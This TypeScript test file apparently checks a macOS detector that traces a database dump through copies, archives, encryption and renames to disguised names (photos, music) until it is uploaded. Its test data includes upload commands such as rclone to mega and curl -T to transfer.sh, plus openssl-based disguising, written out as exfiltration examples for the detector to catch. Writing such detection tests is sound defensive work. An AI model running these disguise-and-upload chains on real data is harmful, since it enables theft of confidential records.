import { describe, expect, it } from 'vitest';
import { Desk, OMAR } from '../../support/desk.ts';
import { MAC_PROGRAMS } from '../../support/mac-programs.ts';
import { PROGRAMS, type Program } from '../../support/story.ts';

const SOURCE = 'Documents/q1/ledger.sql';

/** A dump lies in Documents/q1; a program then writes a file that is uploaded. */
function carried(
  program: Program,
  line: string,
  target: string,
  cwd = '/Users/lena',
  opens: readonly string[] = [],
): Desk {
  const desk = new Desk();
  desk.dump(SOURCE);
  const carrier = desk.type(program, line, { cwd });
  for (const path of opens) desk.story.open(carrier, path);
  desk.story.write(carrier, target);
  return sent(desk, target);
}

function sent(desk: Desk, target: string): Desk {
  desk.story.run(desk.shell, { ...PROGRAMS.rclone, args: ['rclone', 'copy', target, 'mega:in'] });
  return desk;
}

const UPLOADED = {
  stage: 'upload',
  severity: 'high',
  link: 'lineage',
  evidence: 'named-in-upload-command',
  service: 'mega',
};

describe('lineage goes on', () => {
  it.each<{
    title: string;
    program: Program;
    line: string;
    target: string;
    cwd?: string;
    opens?: readonly string[];
  }>([
    {
      title: 'by cp to another name',
      program: PROGRAMS.cp,
      line: `cp ${SOURCE} Pictures/a.jpg`,
      target: '/Users/lena/Pictures/a.jpg',
    },
    {
      title: 'by install with an owner and a mode in letters',
      program: { path: '/usr/bin/install' },
      line: `install -o lena -g staff -m go-w ${SOURCE} Pictures/a.jpg`,
      target: '/Users/lena/Pictures/a.jpg',
    },
    {
      title: 'by rsync to another name with options that have values',
      program: MAC_PROGRAMS.rsync,
      line: `rsync -ae ssh --exclude .git ${SOURCE} Pictures/a.jpg`,
      target: '/Users/lena/Pictures/a.jpg',
    },
    {
      title: 'by cp into a folder',
      program: PROGRAMS.cp,
      line: `cp ${SOURCE} /Volumes/STICK`,
      target: '/Volumes/STICK/ledger.sql',
    },
    {
      title: 'by cp -R of the folder',
      program: PROGRAMS.cp,
      line: 'cp -R Documents/q1 /Volumes/STICK/',
      target: '/Volumes/STICK/q1/ledger.sql',
    },
    {
      title: 'by cp of a relative name against the cwd',
      program: PROGRAMS.cp,
      line: 'cp ledger.sql ../../Pictures/b.png',
      target: '/Users/lena/Pictures/b.png',
      cwd: '/Users/lena/Documents/q1',
    },
    {
      title: 'by ditto',
      program: MAC_PROGRAMS.ditto,
      line: `ditto ${SOURCE} Music/c.mp3`,
      target: '/Users/lena/Music/c.mp3',
    },
    {
      title: 'by ditto of the folder',
      program: MAC_PROGRAMS.ditto,
      line: 'ditto Documents/q1 Music/q1',
      target: '/Users/lena/Music/q1/ledger.sql',
    },
    {
      title: 'by install with a mode',
      program: MAC_PROGRAMS.install,
      line: `install -m 600 ${SOURCE} Music/d.mp3`,
      target: '/Users/lena/Music/d.mp3',
    },
    {
      title: 'by zip',
      program: PROGRAMS.zip,
      line: `zip Music/e.bin ${SOURCE}`,
      target: '/Users/lena/Music/e.bin',
    },
    {
      title: 'by zip -r of the folder',
      program: PROGRAMS.zip,
      line: 'zip -r -q Music/f.bin Documents/q1',
      target: '/Users/lena/Music/f.bin',
    },
    {
      title: 'by tar of the folder',
      program: PROGRAMS.tar,
      line: 'tar -czf Music/g.bin Documents/q1',
      target: '/Users/lena/Music/g.bin',
    },
    {
      title: 'by tar -C',
      program: PROGRAMS.tar,
      line: 'tar -cf Music/h.bin -C Documents q1/ledger.sql',
      target: '/Users/lena/Music/h.bin',
    },
    {
      title: 'by tar -C of everything there',
      program: PROGRAMS.tar,
      line: 'tar cf Music/i.bin -C Documents/q1 .',
      target: '/Users/lena/Music/i.bin',
    },
    {
      title: 'by tar of the root of all folders',
      program: PROGRAMS.tar,
      line: 'tar -czf Music/l.bin /',
      target: '/Users/lena/Music/l.bin',
    },
    {
      title: 'by zip of the working directory when that is the root',
      program: PROGRAMS.zip,
      line: 'zip -r /Users/lena/Music/m.bin .',
      target: '/Users/lena/Music/m.bin',
      cwd: '/',
    },
    {
      title: 'by gzip in place',
      program: PROGRAMS.gzip,
      line: `gzip ${SOURCE}`,
      target: '/Users/lena/Documents/q1/ledger.sql.gz',
    },
    {
      title: 'by ditto -c -k',
      program: MAC_PROGRAMS.ditto,
      line: 'ditto -c -k --keepParent Documents/q1 Music/j.bin',
      target: '/Users/lena/Music/j.bin',
    },
    {
      title: 'by openssl enc',
      program: MAC_PROGRAMS.openssl,
      line: `openssl enc -aes-256-cbc -in ${SOURCE} -out Music/k.bin`,
      target: '/Users/lena/Music/k.bin',
    },
    {
      title: 'by Archive Utility, which has no arguments but opens the file',
      program: MAC_PROGRAMS.archiveUtility,
      line: 'Archive',
      target: '/Users/lena/Documents/q1/ledger.bin',
      opens: ['/Users/lena/Documents/q1/ledger.sql'],
    },
    {
      title: 'by 7-Zip that opens what a list file names',
      program: { path: '/opt/homebrew/bin/7zz' },
      line: '7zz a Music/l.bin @names.txt',
      target: '/Users/lena/Music/l.bin',
      opens: ['/Users/lena/Documents/q1/ledger.sql'],
    },
  ])('$title', ({ program, line, target, cwd, opens }) => {
    expect(carried(program, line, target, cwd, opens).findings()).toMatchObject([
      { ...UPLOADED, files: [`/Users/lena/${SOURCE}`, target] },
    ]);
  });

  it('by rsync through its temporary name', () => {
    const desk = new Desk();
    desk.dump(SOURCE);
    const rsync = desk.type(MAC_PROGRAMS.rsync, 'rsync -a Documents/q1/ /Volumes/STICK/q1/');
    desk.story.write(rsync, '/Volumes/STICK/q1/.ledger.sql.Zk3x9Q');
    desk.story.rename(
      rsync,
      '/Volumes/STICK/q1/.ledger.sql.Zk3x9Q',
      '/Volumes/STICK/q1/ledger.sql',
    );
    sent(desk, '/Volumes/STICK/q1/ledger.sql');
    expect(desk.findings()).toMatchObject([
      {
        ...UPLOADED,
        files: [
          desk.at(SOURCE),
          '/Volumes/STICK/q1/.ledger.sql.Zk3x9Q',
          '/Volumes/STICK/q1/ledger.sql',
        ],
      },
    ]);
  });

  it.each([
    ['that it forked', null],
    ['that it started as its own server', 'rsync --server -t . /Volumes/STICK/'],
  ])('by rsync with a receiver %s', (_, server) => {
    const desk = new Desk();
    desk.dump(SOURCE);
    const line = `rsync -a ${desk.at(SOURCE)} /Volumes/STICK/`;
    const rsync = desk.type(MAC_PROGRAMS.rsync, line, { cwd: '/' });
    const forked = desk.story.fork(rsync);
    const receiver =
      server === null
        ? forked
        : desk.story.exec(forked, desk.program(MAC_PROGRAMS.rsync, server, { cwd: '/' }));
    desk.story.write(receiver, '/Volumes/STICK/.ledger.sql.Zk3x9Q');
    sent(desk, '/Volumes/STICK/.ledger.sql.Zk3x9Q');
    expect(desk.findings()).toMatchObject([
      { ...UPLOADED, files: [desk.at(SOURCE), '/Volumes/STICK/.ledger.sql.Zk3x9Q'] },
    ]);
  });

  it('by GNU tar whose child makes the archive and becomes gzip', () => {
    const desk = new Desk();
    desk.dump(SOURCE);
    const tar = desk.type({ path: '/opt/homebrew/bin/gtar' }, `gtar czf Music/l.bin ${SOURCE}`);
    const child = desk.story.fork(tar);
    desk.story.create(child, desk.at('Music/l.bin'));
    const gzip = desk.story.exec(child, desk.program({ path: '/usr/bin/gzip' }, 'gzip'));
    desk.story.close(gzip, desk.at('Music/l.bin'));
    sent(desk, desk.at('Music/l.bin'));
    expect(desk.findings()).toMatchObject([
      { ...UPLOADED, files: [desk.at(SOURCE), desk.at('Music/l.bin')] },
    ]);
  });

  it('by zip through its temporary name', () => {
    const desk = new Desk();
    desk.dump(SOURCE);
    const zip = desk.type(PROGRAMS.zip, `zip Music/m.bin ${SOURCE}`);
    desk.story
      .write(zip, desk.at('Music/ziXx12ab'))
      .rename(zip, desk.at('Music/ziXx12ab'), desk.at('Music/m.bin'));
    sent(desk, desk.at('Music/m.bin'));
    expect(desk.findings()).toMatchObject([
      { ...UPLOADED, files: [desk.at(SOURCE), desk.at('Music/ziXx12ab'), desk.at('Music/m.bin')] },
    ]);
  });

  it.each(['clone', 'copyfile', 'link', 'rename'] as const)(
    'by the system call %s of any program',
    (call) => {
      const desk = new Desk();
      desk.dump(SOURCE);
      desk.story[call](
        desk.background(MAC_PROGRAMS.script),
        desk.at(SOURCE),
        desk.at('Music/n.mp3'),
      );
      sent(desk, desk.at('Music/n.mp3'));
      expect(desk.findings()).toMatchObject([
        { ...UPLOADED, files: [desk.at(SOURCE), desk.at('Music/n.mp3')] },
      ]);
    },
  );

  it.each(['clone', 'copyfile', 'rename'] as const)('by %s of the folder that holds it', (call) => {
    const desk = new Desk();
    desk.dump(SOURCE);
    desk.story[call](
      desk.background(PROGRAMS.finder),
      desk.at('Documents/q1'),
      desk.at('Music/q1'),
    );
    sent(desk, desk.at('Music/q1/ledger.sql'));
    expect(desk.findings()).toMatchObject([
      { ...UPLOADED, files: [desk.at(SOURCE), desk.at('Music/q1/ledger.sql')] },
    ]);
  });

  it('through an archive of an archive of a copy', () => {
    const desk = new Desk();
    desk.dump(SOURCE);
    desk.story.write(
      desk.type(PROGRAMS.cp, `cp ${SOURCE} Desktop/o.sql`),
      desk.at('Desktop/o.sql'),
    );
    desk.story.write(
      desk.type(PROGRAMS.gzip, 'gzip -k Desktop/o.sql'),
      desk.at('Desktop/o.sql.gz'),
    );
    desk.story.write(
      desk.type(MAC_PROGRAMS.openssl, 'openssl enc -in Desktop/o.sql.gz -out Desktop/o.mov'),
      desk.at('Desktop/o.mov'),
    );
    sent(desk, desk.at('Desktop/o.mov'));
    expect(desk.findings()).toMatchObject([
      {
        ...UPLOADED,
        files: [
          desk.at(SOURCE),
          ...['o.sql', 'o.sql.gz', 'o.mov'].map((name) => desk.at(`Desktop/${name}`)),
        ],
      },
    ]);
  });

  it('to the copy after the original is gone', () => {
    const desk = new Desk();
    desk.dump(SOURCE);
    const gzip = desk.type(PROGRAMS.gzip, `gzip ${SOURCE}`);
    desk.story.write(gzip, desk.at(`${SOURCE}.gz`)).unlink(gzip, desk.at(SOURCE));
    sent(desk, desk.at(`${SOURCE}.gz`));
    expect(desk.findings()).toMatchObject([UPLOADED]);
  });

  it('for two chains in one archive', () => {
    const desk = new Desk();
    desk.dump('Desktop/a.sql');
    desk.story.write(desk.type(PROGRAMS.psql, 'psql hr'), desk.at('Desktop/b.csv'));
    const zip = desk.type(PROGRAMS.zip, 'zip Desktop/both.zip Desktop/a.sql Desktop/b.csv');
    desk.story.write(zip, desk.at('Desktop/both.zip'));
    sent(desk, desk.at('Desktop/both.zip'));
    expect(desk.findings()).toMatchObject([
      {
        ...UPLOADED,
        tool: 'mysqldump',
        files: [desk.at('Desktop/a.sql'), desk.at('Desktop/both.zip')],
      },
      { ...UPLOADED, tool: 'psql', files: [desk.at('Desktop/b.csv'), desk.at('Desktop/both.zip')] },
    ]);
  });
});

describe('lineage does not go on', () => {
  it.each<{
    title: string;
    program: Program;
    line: string;
    target: string;
    opens?: readonly string[];
  }>([
    {
      title: 'by cp of a file whose name starts the same',
      program: PROGRAMS.cp,
      line: 'cp Documents/q1/ledger.sql.old Music/a',
      target: '/Users/lena/Music/a',
    },
    {
      title: 'by cp -R of a folder whose name starts the same',
      program: PROGRAMS.cp,
      line: 'cp -R Documents/q10 Music/',
      target: '/Users/lena/Music/ledger.sql',
    },
    {
      title: 'by cp of the same name in another folder',
      program: PROGRAMS.cp,
      line: 'cp Documents/q2/ledger.sql Music/b',
      target: '/Users/lena/Music/b',
    },
    {
      title: 'by a relative name in another cwd',
      program: PROGRAMS.cp,
      line: 'cp ledger.sql Music/c',
      target: '/Users/lena/Music/c',
    },
    {
      title: 'by an archive of other files',
      program: PROGRAMS.zip,
      line: 'zip -r Music/d Pictures',
      target: '/Users/lena/Music/d',
    },
    {
      title: 'by tar -C of another folder',
      program: PROGRAMS.tar,
      line: 'tar cf Music/e -C Documents/q2 ledger.sql',
      target: '/Users/lena/Music/e',
    },
    {
      title: 'by Archive Utility that opened something else',
      program: MAC_PROGRAMS.archiveUtility,
      line: 'Archive',
      target: '/Users/lena/Music/f',
      opens: ['/Users/lena/Documents/q1/other.sql'],
    },
    {
      title: 'by a program that is no file tool and names the file',
      program: MAC_PROGRAMS.script,
      line: `month-end ${SOURCE}`,
      target: '/Users/lena/Music/g',
    },
    {
      title: 'to what cp -R of the folder writes beside it',
      program: PROGRAMS.cp,
      line: 'cp -R Documents/q1 Music/',
      target: '/Users/lena/Music/q1/cover.jpg',
    },
  ])('$title', ({ program, line, target, opens }) => {
    expect(carried(program, line, target, '/Users/lena', opens).findings()).toMatchObject([
      { stage: 'export', files: [`/Users/lena/${SOURCE}`] },
    ]);
  });

  it('to the old name after a rename', () => {
    const desk = new Desk();
    desk.dump('Desktop/a.sql');
    desk.mv('Desktop/a.sql', 'Desktop/b.sql');
    sent(desk, desk.at('Desktop/a.sql'));
    expect(desk.findings()).toMatchObject([{ stage: 'export' }]);
  });

  it('by a rename of a folder whose name starts the same', () => {
    const desk = new Desk();
    desk.dump(SOURCE);
    desk.story.rename(
      desk.background(PROGRAMS.finder),
      desk.at('Documents/q'),
      desk.at('Dropbox/q'),
    );
    expect(desk.findings()).toMatchObject([{ stage: 'export' }]);
  });

  it('by a denied rename, which did not happen', () => {
    const desk = new Desk();
    desk.dump(SOURCE);
    desk.story.rename(
      desk.background(PROGRAMS.finder),
      desk.at(SOURCE),
      desk.at('Dropbox/l.sql'),
      true,
    );
    expect(desk.findings()).toMatchObject([{ stage: 'export' }]);
  });
});

const DAY = 86_400;

describe('lineage is remembered for seven days', () => {
  it.each([
    { title: 'seven days after the last step', seconds: 7 * DAY, config: {}, stage: 'upload' },
    { title: 'a second after seven days', seconds: 7 * DAY + 1, config: {}, stage: 'export' },
    {
      title: 'at the configured limit',
      seconds: 2 * DAY,
      config: { windows: { lineageDays: 2 } },
      stage: 'upload',
    },
    {
      title: 'after the configured limit',
      seconds: 2 * DAY + 1,
      config: { windows: { lineageDays: 2 } },
      stage: 'export',
    },
  ])('$title an upload leaves the stage $stage', ({ seconds, config, stage }) => {
    const desk = new Desk();
    const tool = desk.type(PROGRAMS.psql, 'psql');
    desk.story.create(tool, desk.at('Desktop/a.csv'));
    const last = desk.story.now;
    desk.story.close(tool, desk.at('Desktop/a.csv'));
    const child = desk.until(last, seconds - 0.001).story.fork(desk.shell);
    desk.story.exec(child, desk.program(PROGRAMS.rclone, 'rclone copy Desktop/a.csv mega:x'));
    expect(desk.findings(config)).toMatchObject([{ stage }]);
  });

  it('after its last step, so a rename on the sixth day prolongs it', () => {
    const desk = new Desk();
    desk.dump('Desktop/a.sql');
    desk.story.wait(6 * DAY);
    desk.mv('Desktop/a.sql', 'Desktop/b.sql');
    desk.story.wait(6 * DAY);
    sent(desk, desk.at('Desktop/b.sql'));
    expect(desk.findings()).toMatchObject([UPLOADED]);
  });
});

describe('an upload is a step of the file too', () => {
  const OPENED = { path: 'Desktop/a.sql', days: 5 };

  /** The dump leaves once on the fifth day, and after some more time goes to a place where data is lost for good. */
  function leftTwice(leave: (desk: Desk) => unknown, seconds: number): Desk {
    const desk = new Desk();
    desk.dump(OPENED.path);
    desk.story.wait(OPENED.days * DAY).noise(1);
    leave(desk);
    desk.story.wait(seconds);
    desk.type(PROGRAMS.curl, `curl -T ${OPENED.path} https://transfer.sh/`);
    return desk;
  }

  const WAYS: readonly (readonly [string, (desk: Desk) => unknown])[] = [
    ['named in a command', (desk) => desk.type(PROGRAMS.rclone, 'rclone copy Desktop/a.sql box:x')],
    [
      'opened by a sync client',
      (desk) => desk.story.open(desk.background(PROGRAMS.dropbox), desk.at(OPENED.path)),
    ],
    [
      'opened by a browser that reached a service',
      (desk) => {
        const chrome = desk.background(PROGRAMS.chrome);
        desk.story.open(chrome, desk.at(OPENED.path));
        desk.reach(chrome, 'drive.google.com');
      },
    ],
    [
      'redirected to an uploader',
      (desk) => {
        const child = desk.story.fork(desk.shell);
        desk.story.open(child, desk.at(OPENED.path));
        desk.story.exec(child, desk.program(PROGRAMS.rclone, 'rclone rcat box:x'));
      },
    ],
  ];

  it.each(WAYS)('when it is %s', (_, leave) => {
    expect(leftTwice(leave, 6 * DAY).findings()).toMatchObject([
      { stage: 'upload', severity: 'critical' },
    ]);
    expect(leftTwice(leave, 7 * DAY + 1).findings()).toMatchObject([
      { stage: 'upload', severity: 'high' },
    ]);
  });
});

describe('a copy of several files', () => {
  it('gives each copy the lineage of the file of its name', () => {
    const desk = new Desk();
    desk.dump('Desktop/a.sql');
    const cp = desk.type(PROGRAMS.cp, 'cp Desktop/a.sql Desktop/holiday.jpg Music/');
    desk.story.write(cp, desk.at('Music/a.sql')).write(cp, desk.at('Music/holiday.jpg'));
    sent(desk, desk.at('Music/holiday.jpg'));
    expect(desk.findings()).toMatchObject([{ stage: 'export' }]);
    sent(desk, desk.at('Music/a.sql'));
    expect(desk.findings()).toMatchObject([UPLOADED]);
  });

  it.each(['data.sql', 'a.sqlite', 'a.sql.md5'])(
    'with a folder does not give its lineage to %s, whose name only holds that of a.sql',
    (name) => {
      const desk = new Desk();
      desk.dump('Desktop/q1/a.sql');
      const cp = desk.type(PROGRAMS.cp, 'cp -R Desktop/q1 Music/');
      desk.story.write(cp, desk.at(`Music/q1/${name}`));
      sent(desk, desk.at(`Music/q1/${name}`));
      expect(desk.findings()).toMatchObject([
        { stage: 'export', files: [desk.at('Desktop/q1/a.sql')] },
      ]);
    },
  );
});

describe('the data is followed', () => {
  it('by mv to another volume, which copies and deletes', () => {
    const desk = new Desk();
    desk.dump('Desktop/a.sql');
    const mv = desk.type(PROGRAMS.mv, 'mv Desktop/a.sql /Volumes/STICK/b.mov');
    desk.story.write(mv, '/Volumes/STICK/b.mov').unlink(mv, desk.at('Desktop/a.sql'));
    sent(desk, '/Volumes/STICK/b.mov');
    expect(desk.findings()).toMatchObject([UPLOADED]);
  });

  it('out of the archive again', () => {
    const desk = new Desk();
    desk.dump('Desktop/a.sql');
    desk.story.write(
      desk.type(PROGRAMS.zip, 'zip Desktop/b.zip Desktop/a.sql'),
      desk.at('Desktop/b.zip'),
    );
    desk.story.write(
      desk.type(
        { path: '/usr/bin/unzip', signingId: 'com.apple.unzip', platform: true },
        'unzip Desktop/b.zip -d Music',
      ),
      desk.at('Music/c'),
    );
    sent(desk, desk.at('Music/c'));
    expect(desk.findings()).toMatchObject([UPLOADED]);
  });

  it('through the hard link after the first name is deleted', () => {
    const desk = new Desk();
    desk.dump('Desktop/a.sql');
    const ln = desk.type(MAC_PROGRAMS.ln, 'ln Desktop/a.sql Music/b');
    desk.story
      .link(ln, desk.at('Desktop/a.sql'), desk.at('Music/b'))
      .unlink(desk.shell, desk.at('Desktop/a.sql'));
    sent(desk, desk.at('Music/b'));
    expect(desk.findings()).toMatchObject([UPLOADED]);
  });

  it('into the trash and out of it', () => {
    const desk = new Desk();
    desk.dump('Desktop/a.sql');
    desk.mv('Desktop/a.sql', '.Trash/a.sql');
    desk.mv('.Trash/a.sql', 'Music/a');
    sent(desk, desk.at('Music/a'));
    expect(desk.findings()).toMatchObject([UPLOADED]);
  });

  it('by a copy under sudo', () => {
    const desk = new Desk();
    desk.dump('Desktop/a.sql');
    const sudo = desk.type(MAC_PROGRAMS.sudo, 'sudo cp Desktop/a.sql /opt/a', {
      auid: 503,
      ruid: 0,
    });
    const cp = desk.story.run(sudo, desk.program(PROGRAMS.cp, 'cp Desktop/a.sql /opt/a'));
    desk.story.write(cp, '/opt/a');
    sent(desk, '/opt/a');
    expect(desk.findings()).toMatchObject([UPLOADED]);
  });

  it('for two users in one archive, each in the finding of the own chain', () => {
    const desk = new Desk();
    desk.dump('Desktop/a.sql');
    const other = desk.story.run(desk.story.shell(OMAR), {
      ...MAC_PROGRAMS.mysqldump,
      args: ['mysqldump', 'x'],
    });
    desk.story.write(other, '/Users/Shared/b.sql');
    const zip = desk.type(PROGRAMS.zip, 'zip Desktop/c.zip Desktop/a.sql /Users/Shared/b.sql');
    desk.story.write(zip, desk.at('Desktop/c.zip'));
    sent(desk, desk.at('Desktop/c.zip'));
    expect(desk.findings()).toMatchObject([
      { ...UPLOADED, user: 'lena', files: [desk.at('Desktop/a.sql'), desk.at('Desktop/c.zip')] },
      { ...UPLOADED, user: 'omar', files: ['/Users/Shared/b.sql', desk.at('Desktop/c.zip')] },
    ]);
  });

  it('by time alone through renames that end in a plain name', () => {
    const desk = new Desk();
    desk.save('Downloads/a.xlsx');
    desk.mv('Downloads/a.xlsx', 'Music/track');
    sent(desk, desk.at('Music/track'));
    expect(desk.findings()).toMatchObject([
      {
        stage: 'upload',
        link: 'temporal',
        severity: 'medium',
        files: [desk.at('Downloads/a.xlsx'), desk.at('Music/track')],
      },
    ]);
  });

  it('without a link by time when the watcher reports the new name of a moved export', () => {
    const desk = new Desk();
    desk.dump('Downloads/a.sql');
    desk.mv('Downloads/a.sql', 'Downloads/b.sql');
    desk.story
      .watched('unlink', desk.at('Downloads/a.sql'), 503)
      .watched('add', desk.at('Downloads/b.sql'), 503)
      .wait(4)
      .noise(1);
    expect(desk.stages()).toEqual(['tool', 'export']);
    sent(desk, desk.at('Downloads/b.sql'));
    expect(desk.findings()).toMatchObject([UPLOADED]);
  });
});

describe('taking an archive apart', () => {
  const PHOTO = '/Users/lena/Documents/q1/team.jpg';
  const EXTRACTIONS: readonly (readonly [string, string])[] = [
    ['unzip', 'unzip Downloads/photos.zip -d Documents/q1'],
    ['tar', 'tar xzf Downloads/photos.tgz -C Documents/q1'],
    ['tar', 'tar -C Documents/q1 -x -f Downloads/photos.tgz'],
    ['ditto', 'ditto -x -k Downloads/photos.zip Documents/q1'],
    ['7zz', '7zz x Downloads/photos.7z -oDocuments/q1'],
  ];

  it.each(EXTRACTIONS)(
    'with %s into the folder of an export takes nothing from there: %s',
    (name, line) => {
      const desk = carried({ path: `/usr/bin/${name}` }, line, PHOTO);
      expect(desk.findings()).toMatchObject([{ stage: 'export', files: [desk.at(SOURCE)] }]);
    },
  );

  it('gives what the export’s own archive holds', () => {
    const desk = new Desk();
    desk.dump(SOURCE);
    const zip = desk.type(PROGRAMS.zip, `zip o.zip ${SOURCE}`);
    desk.story.write(zip, desk.at('o.zip'));
    const unzip = desk.type({ path: '/usr/bin/unzip' }, 'unzip o.zip -d Pictures');
    desk.story.write(unzip, desk.at('Pictures/ledger.sql'));
    desk.type(PROGRAMS.curl, 'curl -T Pictures/ledger.sql https://transfer.sh/');
    expect(desk.findings()).toMatchObject([{ stage: 'upload' }]);
  });

  it.each([
    [300, 'upload'],
    [5 * 3600, 'export'],
  ])('by an app that read the export %i s before gives stage %s', (seconds, stage) => {
    const desk = new Desk();
    desk.dump(SOURCE);
    const app = desk.background(MAC_PROGRAMS.archiveUtility);
    desk.story.open(app, desk.at(SOURCE)).wait(seconds).write(app, desk.at('Downloads/p.zip'));
    desk.type(PROGRAMS.curl, 'curl -T Downloads/p.zip https://transfer.sh/');
    expect(desk.findings()).toMatchObject([{ stage }]);
  });
});

it('an archive of a folder with state of the session tool and its export has the way of the export', () => {
  const desk = new Desk();
  const dbeaver = desk.launch(PROGRAMS.dbeaver);
  desk.story.write(dbeaver, desk.at('Library/DBeaverData/.metadata/a.xml'));
  desk.story.write(dbeaver, desk.at('Desktop/x.csv'));
  const tar = desk.type(PROGRAMS.tar, 'tar -czf /tmp/all.tgz /Users/lena');
  desk.story.write(tar, '/tmp/all.tgz');
  expect(sent(desk, '/tmp/all.tgz').findings()).toMatchObject([
    { stage: 'upload', files: [desk.at('Desktop/x.csv'), '/private/tmp/all.tgz'] },
  ]);
});

describe('a copy to another volume by the Finder, which opens one file and writes another', () => {
  const HELPER: Program = {
    path: '/System/Library/PrivateFrameworks/DesktopServicesPriv.framework/Versions/A/Resources/DesktopServicesHelper',
    signingId: 'com.apple.DesktopServicesHelper',
    teamId: null,
    platform: true,
  };
  const MDS: Program = { path: '/usr/libexec/mds', signingId: 'com.apple.mds', platform: true };
  const STICK = '/Volumes/STICK/ledger.sql';

  /** The dump is opened by a program, which after some seconds writes a file that is uploaded. */
  function copied(by: Program, target: string, seconds: number, opened = SOURCE): Desk {
    const desk = new Desk();
    desk.dump(SOURCE);
    const program = desk.background(by);
    desk.story.wait(60).open(program, desk.at(opened));
    desk.story.wait(seconds - 0.001).write(program, target);
    return sent(desk, target);
  }

  it.each<[string, Program, string, number]>([
    ['by its helper', HELPER, STICK, 1],
    ['by itself', PROGRAMS.finder, STICK, 1],
    ['into a folder of a share', PROGRAMS.finder, '/Volumes/share/in/Ledger.SQL', 1],
    ['after ten seconds', PROGRAMS.finder, STICK, 10],
  ])('%s goes on with the lineage', (_, by, target, seconds) => {
    expect(copied(by, target, seconds).findings()).toMatchObject([
      { ...UPLOADED, files: [`/Users/lena/${SOURCE}`, target] },
    ]);
  });

  it.each<[string, Program, string, number, string]>([
    ['another name', PROGRAMS.finder, '/Volumes/STICK/ledger 2.sql', 1, SOURCE],
    ['more than ten seconds between', PROGRAMS.finder, STICK, 10.001, SOURCE],
    ['another file opened', PROGRAMS.finder, STICK, 1, 'Desktop/ledger.sql'],
    ['an indexer', MDS, STICK, 1, SOURCE],
  ])('with %s is none', (_, by, target, seconds, opened) => {
    expect(copied(by, target, seconds, opened).findings()).toMatchObject([
      { stage: 'export', files: [`/Users/lena/${SOURCE}`] },
    ]);
  });

  it('by two processes, of which one opens and the other writes, is none', () => {
    const desk = new Desk();
    desk.dump(SOURCE);
    desk.story.open(desk.background(PROGRAMS.finder), desk.at(SOURCE));
    desk.story.write(desk.background(HELPER), STICK);
    expect(sent(desk, STICK).findings()).toMatchObject([{ stage: 'export' }]);
  });

  it('does not make an upload of the opening', () => {
    const desk = new Desk();
    desk.dump(SOURCE);
    desk.story.open(desk.background(PROGRAMS.finder), desk.at(SOURCE));
    expect(desk.findings()).toMatchObject([{ stage: 'export', evidence: null }]);
  });
});
